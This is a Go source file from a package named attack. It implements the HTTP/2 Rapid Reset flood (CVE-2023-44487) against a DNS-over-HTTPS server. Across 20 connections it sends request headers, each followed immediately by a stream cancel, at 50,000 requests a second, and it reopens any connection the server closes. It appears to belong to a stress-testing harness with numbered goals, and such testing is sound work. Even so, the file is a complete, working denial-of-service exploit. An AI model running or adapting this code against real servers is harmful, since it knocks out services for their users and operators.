//go:build linux

package attack

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/http2"
)

const (
	resetConnections = 20
	resetRate        = 50_000 // requests a second, on all connections together
	resetStep        = 10 * time.Millisecond
	// hotNames is how many of the names that a server has in its cache are asked for.
	hotNames = 1000
)

// attackResets is goal P5: requests over HTTP/2 that are given up as soon as they are sent (CVE-2023-44487), 50,000 a second. A connection that the server ends is
// replaced at once.
func attackResets(ctx context.Context, a *attacker) {
	c := a.counter("HTTPS, requests")
	conns := a.counter("HTTPS, connections")
	blocks := make([][]byte, hotNames)
	for i := range blocks {
		query, err := new(dns.Msg).SetQuestion(fmt.Sprintf("h%d.example.test.", i), dns.TypeA).Pack()
		if err != nil {
			panic(err) // of what is here
		}
		blocks[i] = fields("GET", "/dns-query?dns="+base64.RawURLEncoding.EncodeToString(query))
	}
	a.present.Add(resetConnections)
	for i := range resetConnections {
		a.all.Go(func() {
			var once sync.Once
			for ctx.Err() == nil {
				conn, err := conns.connect(ctx, i*50, a.HTTPS, "h2")
				once.Do(a.present.Done)
				if err != nil {
					conns.failed.Add(1)
					pause(ctx, time.Now().Add(resetStep))
					continue
				}
				conns.begun.Add(1)
				conns.open.Add(1)
				reset(ctx, conn, c, float64(a.some(resetRate))/resetConnections, blocks)
				conns.open.Add(-1)
				conns.ended.Add(1)
			}
		})
	}
}

// reset sends requests and their resets at a rate, until the server ends the connection. What the server does not take, since it's busy, isn't made up for.
func reset(ctx context.Context, conn net.Conn, c *counter, rate float64, blocks [][]byte) {
	var reading sync.WaitGroup
	defer reading.Wait()
	defer conn.Close()
	reading.Go(func() {
		io.Copy(io.Discard, conn) //nolint:errcheck // it ends with the connection
		conn.Close()
	})
	if _, err := io.WriteString(conn, http2.ClientPreface+settings()+frame(http2.FrameSettings, http2.FlagSettingsAck, 0, nil)); err != nil {
		return
	}
	tick := time.NewTicker(resetStep)
	defer tick.Stop()
	var out []byte
	cancel := []byte{0, 0, 0, byte(http2.ErrCodeCancel)}
	due, last := 0.0, time.Now()
	for stream := uint32(1); ctx.Err() == nil; {
		now := <-tick.C
		due += min(now.Sub(last).Seconds(), 10*resetStep.Seconds()) * rate
		last = now
		out = out[:0]
		n := int64(due)
		for range n {
			out = append(out, headers(stream, blocks[int(stream/2)%len(blocks)], http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream)...)
			out = append(out, frame(http2.FrameRSTStream, 0, stream, cancel)...)
			stream += 2
		}
		due -= float64(n)
		if conn.SetWriteDeadline(time.Now().Add(patience)) != nil {
			return
		}
		c.begun.Add(n)
		if _, err := conn.Write(out); err != nil {
			return
		}
	}
}
